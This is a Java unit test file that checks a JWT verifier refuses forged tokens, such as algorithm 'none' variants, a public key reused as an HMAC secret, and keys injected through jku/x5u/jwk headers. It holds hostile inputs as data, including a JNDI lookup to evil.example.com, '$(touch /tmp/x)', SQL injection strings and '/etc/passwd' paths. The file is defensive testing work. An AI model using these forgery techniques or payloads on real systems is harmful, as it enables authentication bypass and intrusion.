package io.plexspaces.processgroups.token;

import static org.assertj.core.api.Assertions.assertThat;

import io.plexspaces.processgroups.token.TokenRefused.Reason;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.jose4j.json.JsonUtil;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class ForgeryTest {
    private static final byte[] SECRET = "0123456789abcdef0123456789abcdef".getBytes(StandardCharsets.UTF_8);
    private static final Issuer RSA = Issuer.rsa("r");
    private static final Issuer EC = Issuer.ec("e");
    private static final Issuer ED = Issuer.ed("d");
    private static final Issuer SHARED = Issuer.secret(SECRET);
    private static final Keys KEYS = Issuer.keys(RSA, EC, ED);
    private static final String CLAIMS = JsonUtil.toJson(Issuer.claims());

    private static Reason reason(String token) {
        return reason(KEYS, token);
    }

    private static Reason reason(Keys keys, String token) {
        return Issuer.reason(
                new CheckingVerifier(keys, Issuer.ANY, new MovingClock(), Runnable::run, 10).verify(token));
    }

    private static String unsigned(String header, String signature) {
        return Issuer.base64(header) + "." + Issuer.base64(CLAIMS) + "." + signature;
    }

    static Stream<Issuer> foreign() {
        return Stream.of(Issuer.rsa("r"), Issuer.ec("e"), Issuer.ed("d"));
    }

    @ParameterizedTest
    @MethodSource("foreign")
    void tokenOfAnotherKey_underAKnownName_isRefused(Issuer foreign) {
        assertThat(reason(foreign.token())).isEqualTo(Reason.SIGNATURE);
    }

    @Test
    void sharedSecret_ofOthers_isRefused() {
        byte[] other = SECRET.clone();
        other[31]++;

        assertThat(reason(new SharedSecret(SECRET), Issuer.secret(other).token()))
                .isEqualTo(Reason.SIGNATURE);
    }

    /** What the server publishes as its key must not work as a secret. */
    @Test
    void publicKeyAsSecret_isRefused() {
        for (byte[] secret : List.of(
                RSA.publicKey().getEncoded(),
                RSA.pem().getBytes(StandardCharsets.UTF_8),
                JsonUtil.toJson(RSA.jwk()).getBytes(StandardCharsets.UTF_8))) {
            String token = Issuer.secret(secret).token("r", Map.of(), CLAIMS);
            assertThat(reason(token)).isEqualTo(Reason.ALGORITHM);
        }
    }

    @Test
    void algorithmOfAnotherFamilyThanTheKeys_isRefused() {
        assertThat(reason(RSA.token("e", Map.of(), CLAIMS))).isEqualTo(Reason.ALGORITHM);
        assertThat(reason(EC.token("d", Map.of(), CLAIMS))).isEqualTo(Reason.ALGORITHM);
        assertThat(reason(ED.token("r", Map.of(), CLAIMS))).isEqualTo(Reason.ALGORITHM);
        assertThat(reason(SHARED.token())).isEqualTo(Reason.ALGORITHM);
        assertThat(reason(new SharedSecret(SECRET), RSA.token())).isEqualTo(Reason.ALGORITHM);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "none",
                "None",
                "NONE",
                "nOnE",
                "",
                " none",
                "rs256",
                "RS256 ",
                "RS384",
                "RS512",
                "PS256",
                "ES384",
                "ES512",
                "ES256K",
                "HS384",
                "HS512",
                "RSA-OAEP",
                "dir",
                "EDDSA"
            })
    void otherAlgorithms_areRefused_withAndWithoutASignature(String algorithm) {
        String header = JsonUtil.toJson(Map.of("alg", algorithm, "kid", "r"));
        String signature = RSA.token().substring(RSA.token().lastIndexOf('.') + 1);

        assertThat(reason(unsigned(header, ""))).isEqualTo(Reason.ALGORITHM);
        assertThat(reason(unsigned(header, signature))).isEqualTo(Reason.ALGORITHM);
        assertThat(reason(new SharedSecret(SECRET), unsigned(header, ""))).isEqualTo(Reason.ALGORITHM);
    }

    @ParameterizedTest
    @ValueSource(strings = {"{}", "{\"alg\":null}", "{\"alg\":[\"RS256\"]}", "{\"alg\":256}", "{\"alg\":{}}"})
    void algorithmThatIsNoText_isRefused(String header) {
        assertThat(reason(unsigned(header, "AAAA"))).isEqualTo(Reason.ALGORITHM);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../../dev/null",
                "/dev/null",
                "r' OR '1'='1",
                "x' UNION SELECT 'AAAA' --",
                "https://evil.example.com/jwks.json",
                "file:///etc/passwd",
                "r\0",
                "r ",
                "R",
                "$(touch /tmp/x)",
                "${jndi:ldap://evil.example.com/a}",
                ""
            })
    void nameOfAKey_isOnlyCompared(String kid) {
        assertThat(reason(RSA.token(kid, Map.of(), CLAIMS))).isEqualTo(Reason.UNKNOWN_KEY);
    }

    @ParameterizedTest
    @ValueSource(strings = {"[\"r\"]", "7", "{\"r\":\"r\"}", "true"})
    void nameOfAKeyThatIsNoText_isRefused(String kid) {
        assertThat(reason(unsigned("{\"alg\":\"RS256\",\"kid\":" + kid + "}", "AAAA")))
                .isEqualTo(Reason.MALFORMED);
    }

    /** The attacker's own key, in each place where a token may bring one. */
    @Test
    void keysThatATokenBrings_areIgnored() {
        Issuer foreign = Issuer.rsa("foreign");
        String url = "https://evil.example.com/jwks.json";
        for (Map<String, Object> headers : List.<Map<String, Object>>of(
                Map.of("jwk", foreign.jwk()),
                Map.of("jku", url),
                Map.of("x5u", url),
                Map.of("x5c", List.of("AAAA")),
                Map.of("jwk", "no key", "jku", 7, "x5u", List.of(), "x5c", Map.of()))) {
            assertThat(reason(foreign.token("r", headers, CLAIMS))).isEqualTo(Reason.SIGNATURE);
            assertThat(reason(foreign.token("foreign", headers, CLAIMS))).isEqualTo(Reason.UNKNOWN_KEY);
            assertThat(reason(foreign.token(null, headers, CLAIMS))).isEqualTo(Reason.SIGNATURE);
            assertThat(reason(RSA.token("r", headers, CLAIMS))).isNull();
        }
    }

    @Test
    void extensionsOfTheFormat_areRefused() {
        assertThat(reason(RSA.token("r", Map.of("crit", List.of("exp")), CLAIMS)))
                .isEqualTo(Reason.MALFORMED);
        assertThat(reason(RSA.token("r", Map.of("b64", true), CLAIMS))).isEqualTo(Reason.MALFORMED);
    }

    @Test
    void expired_future_andWithoutTenant_areRefused() {
        assertThat(reason(RSA.token(Issuer.claims("exp", Issuer.NOW - 31)))).isEqualTo(Reason.EXPIRED);
        assertThat(reason(RSA.token(Issuer.claims("nbf", Issuer.NOW + 31)))).isEqualTo(Reason.NOT_YET_VALID);
        assertThat(reason(RSA.token(Issuer.claims("tenant", null)))).isEqualTo(Reason.TENANT);
    }

    @Test
    void size_isBounded_beforeAnythingIsRead() {
        String padded = RSA.token(Issuer.claims("pad", "x".repeat(5_000)));
        assertThat(padded.length()).isLessThan(TokenVerifier.MOST_BYTES);
        assertThat(reason(padded)).isNull();

        assertThat(reason(RSA.token(Issuer.claims("pad", "x".repeat(8_000))))).isEqualTo(Reason.TOO_LARGE);
        assertThat(reason(".".repeat(TokenVerifier.MOST_BYTES + 1))).isEqualTo(Reason.TOO_LARGE);
        assertThat(reason(".".repeat(TokenVerifier.MOST_BYTES))).isEqualTo(Reason.MALFORMED);
        assertThat(reason("x".repeat(50_000_000))).isEqualTo(Reason.TOO_LARGE);
    }

    static Stream<String> malformed() {
        String good = RSA.token();
        String deep = "[".repeat(5_000);
        return Stream.of(
                "",
                ".",
                "..",
                "...",
                "x",
                " " + good,
                good + " ",
                good + "\n",
                good + ".",
                good + "=",
                "." + good,
                good + "." + good,
                good.replace('.', ','),
                good.substring(0, good.lastIndexOf('.')),
                good.substring(0, good.lastIndexOf('.') + 1),
                "Bearer " + good,
                unsigned("null", "AAAA"),
                unsigned("[]", "AAAA"),
                unsigned("7", "AAAA"),
                unsigned("", "AAAA"),
                unsigned("{", "AAAA"),
                unsigned(deep, "AAAA"),
                unsigned("{\"alg\":" + deep, "AAAA"),
                unsigned("{\"alg\":\"none\",\"alg\":\"RS256\"}", "AAAA"),
                "\u00e9" + good,
                good + "\ud800");
    }

    @ParameterizedTest
    @MethodSource("malformed")
    void whatIsNoToken_isRefused(String text) {
        assertThat(reason(text)).isEqualTo(Reason.MALFORMED);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "null",
                "[]",
                "7",
                "text",
                "{",
                "{\"exp\":1e999999999}",
                "{\"exp\":99999999999999999999999999}",
                "{\"tenant\":\"acme\",\"tenant\":\"other\",\"sub\":\"ann\",\"exp\":2000000000}"
            })
    void signedTextThatIsNoSetOfClaims_isRefused(String payload) {
        assertThat(reason(RSA.token("r", Map.of(), payload))).isIn(Reason.MALFORMED, Reason.CLAIM);
    }

    /** Each character, and each bit of the last one: of a text's spare bits, too. */
    @Test
    void signature_hasOneText() {
        String good = EC.token();
        String base64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        char last = good.charAt(good.length() - 1);
        for (int i = 0; i < base64.length(); i++) {
            char other = base64.charAt(i);
            if (other != last) {
                assertThat(reason(good.substring(0, good.length() - 1) + other)).isNotNull();
            }
        }
    }

    /** Java accepts an Ed25519 signature that zeros follow: one token would have many texts. */
    @ParameterizedTest
    @MethodSource("trusted")
    void signature_hasOneLength(Issuer issuer) {
        Keys keys = issuer.equals(SHARED) ? new SharedSecret(SECRET) : KEYS;
        String good = issuer.token();
        int dot = good.lastIndexOf('.');
        byte[] signature = Base64.getUrlDecoder().decode(good.substring(dot + 1));
        for (int length : new int[] {1, signature.length - 1, signature.length + 1, 2 * signature.length}) {
            String other = Issuer.base64(Arrays.copyOf(signature, length));
            assertThat(reason(keys, good.substring(0, dot + 1) + other)).isEqualTo(Reason.SIGNATURE);
        }
    }

    static Stream<Issuer> trusted() {
        return Stream.of(RSA, EC, ED, SHARED);
    }
}
